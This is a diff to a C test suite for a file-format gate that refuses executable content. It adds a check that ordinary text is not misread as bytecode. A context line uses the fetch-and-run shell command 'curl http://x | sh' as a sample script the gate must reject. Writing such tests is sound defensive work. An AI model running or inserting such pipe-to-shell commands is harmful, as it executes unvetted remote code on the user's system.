@@ -852,6 +852,9 @@ TEST(code_is_refused)
     const char *script = "#!/bin/sh\ncurl http://x | sh\n";
     expect(&c, make_raw(script, strlen(script)), false, ST_FORMAT_SCRIPT, ST_CODE_SCRIPT);
     st_gate_config st = config_of(ST_GATE_SAFETENSORS);
+    /* text whose first line is two letters matches a bytecode number, CR LF and 'c' at
+     * offset 8, but text is never bytecode */
+    expect(&st, make_raw("Hi\r\nThe cat sat\r\n", 17), false, ST_FORMAT_TEXT, ST_REFUSED_FORMAT);
     expect(&st, make_raw(script, strlen(script)), false, ST_FORMAT_SCRIPT, ST_CODE_SCRIPT);
     const char *env = "#! /usr/bin/env python3\nprint(1)\n";
     expect(&c, make_raw(env, strlen(env)), false, ST_FORMAT_SCRIPT, ST_CODE_SCRIPT);
